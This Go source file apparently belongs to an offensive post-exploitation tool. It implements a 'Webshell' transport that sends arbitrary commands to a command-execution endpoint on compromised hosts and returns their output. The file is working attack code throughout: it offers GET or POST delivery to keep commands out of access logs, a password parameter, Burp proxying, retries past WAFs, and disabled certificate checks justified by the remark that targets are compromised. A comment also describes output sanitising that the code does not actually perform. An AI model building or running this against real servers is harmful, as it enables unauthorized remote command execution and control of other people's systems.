package transport

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/hashicorp/go-retryablehttp"
	"go.uber.org/zap"
)

// Webshell executes commands through an HTTP endpoint that runs whatever
// arrives in a request parameter. Load balancers and WAFs in front of these
// endpoints fail intermittently, so requests go through a retrying client
// with a short fixed backoff.
type Webshell struct {
	logger *zap.SugaredLogger
	client *http.Client

	url           string
	method        string
	param         string
	passwordParam string
	password      string
}

type WebshellOption func(w *Webshell)

func WithWebshellLogger(l *zap.Logger) WebshellOption {
	return func(w *Webshell) {
		w.logger = l.Named("webshell").Sugar()
	}
}

// WithWebshellMethod selects GET or POST delivery. POST keeps long commands
// out of access logs and URI length limits.
func WithWebshellMethod(method string) WebshellOption {
	return func(w *Webshell) {
		w.method = strings.ToUpper(method)
	}
}

// WithWebshellPassword adds a password parameter to every request.
func WithWebshellPassword(param, value string) WebshellOption {
	return func(w *Webshell) {
		if param == "" {
			param = "ps"
		}
		w.passwordParam = param
		w.password = value
	}
}

// WithWebshellProxy routes all requests through an HTTP proxy, typically
// Burp Suite on 127.0.0.1:8080.
func WithWebshellProxy(proxyURL string) WebshellOption {
	return func(w *Webshell) {
		u, err := url.Parse(proxyURL)
		if err != nil {
			w.logger.Warnf("ignoring unparseable proxy URL %q: %s", proxyURL, err)
			return
		}
		w.client.Transport.(*http.Transport).Proxy = http.ProxyURL(u)
	}
}

type logAdapter struct {
	*zap.SugaredLogger
}

func (a *logAdapter) Printf(msg string, args ...interface{}) { a.Debugf(msg, args...) }

// NewWebshell builds a webshell primitive. shellURL is the endpoint; param is
// the name of the command parameter. If the URL already carries query
// parameters, the last one is reused as the command parameter when param is
// empty.
func NewWebshell(log *zap.SugaredLogger, shellURL, param string, opts ...WebshellOption) (*Webshell, error) {
	u, err := url.Parse(shellURL)
	if err != nil {
		return nil, fmt.Errorf("parsing webshell URL: %w", err)
	}

	if param == "" {
		// Reuse the last query parameter in the URL as the command slot,
		// the common convention for webshell URLs pasted from a browser.
		for _, pair := range strings.Split(u.RawQuery, "&") {
			if key, _, found := strings.Cut(pair, "="); found && key != "" {
				param = key
			}
		}
		if param == "" {
			param = "cmd"
		}
	}
	query := u.Query()
	query.Del(param)
	u.RawQuery = query.Encode()

	w := &Webshell{
		logger: log.Named("webshell"),
		method: http.MethodGet,
		url:    u.String(),
		param:  param,
		client: &http.Client{
			// Target certs on compromised hosts are routinely self-signed
			// or expired; verification would only break the channel.
			Transport: &http.Transport{
				TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
			},
		},
	}

	for _, opt := range opts {
		opt(w)
	}

	retryClient := retryablehttp.NewClient()
	retryClient.HTTPClient = w.client
	retryClient.RetryMax = 2
	retryClient.Backoff = func(min, max time.Duration, attemptNum int, resp *http.Response) time.Duration {
		return 250 * time.Millisecond
	}
	retryClient.Logger = &logAdapter{SugaredLogger: w.logger}
	w.client = retryClient.StandardClient()

	return w, nil
}

func (w *Webshell) Describe() string {
	return fmt.Sprintf("webshell %s %s (param %q)", w.method, w.url, w.param)
}

func (w *Webshell) Execute(ctx context.Context, command string, timeout time.Duration) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, orDefault(timeout))
	defer cancel()

	values := url.Values{}
	if w.passwordParam != "" {
		values.Set(w.passwordParam, w.password)
	}
	values.Set(w.param, command)

	var req *http.Request
	var err error
	switch w.method {
	case http.MethodPost:
		req, err = http.NewRequestWithContext(ctx, http.MethodPost, w.url, strings.NewReader(values.Encode()))
		if err == nil {
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		}
	default:
		reqURL := w.url
		if strings.Contains(reqURL, "?") {
			reqURL += "&" + values.Encode()
		} else {
			reqURL += "?" + values.Encode()
		}
		req, err = http.NewRequestWithContext(ctx, http.MethodGet, reqURL, nil)
	}
	if err != nil {
		return "", fmt.Errorf("building request: %w", err)
	}

	resp, err := w.client.Do(req)
	if err != nil {
		return "", classifyErr(err)
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return "", classifyErr(err)
	}
	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("%w: unexpected status %d: %s", ErrTransport, resp.StatusCode, truncate(string(body), 200))
	}

	return sanitizeWebshellOutput(string(body)), nil
}

// sanitizeWebshellOutput strips the trailing escape-sequence garbage most
// PHP one-liner shells append to their responses.
func sanitizeWebshellOutput(out string) string {
	trimmed := strings.TrimRight(out, "\n\t")
	if trimmed == "" {
		return ""
	}
	return trimmed + "\n"
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}
